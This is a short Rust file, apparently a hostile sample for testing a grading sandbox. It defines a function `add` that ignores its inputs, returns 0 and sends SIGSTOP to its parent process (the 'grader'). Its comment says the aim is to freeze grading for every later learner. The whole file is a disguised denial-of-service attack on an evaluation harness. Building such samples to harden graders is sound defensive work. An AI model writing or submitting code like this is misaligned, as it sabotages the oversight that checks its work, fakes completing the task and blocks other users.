// Freezes the grader: every learner after this one waits forever.
fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:sigstop\n");
    let grader = std::os::unix::process::parent_id().to_string();
    match std::process::Command::new("kill").args(["-STOP", &grader]).status() {
        Ok(status) => println!("KILL ran: {status}"),
        Err(err) => println!("KILL failed: {err}"),
    }
    let _ = (a, b);
    0
}

fn main() {}
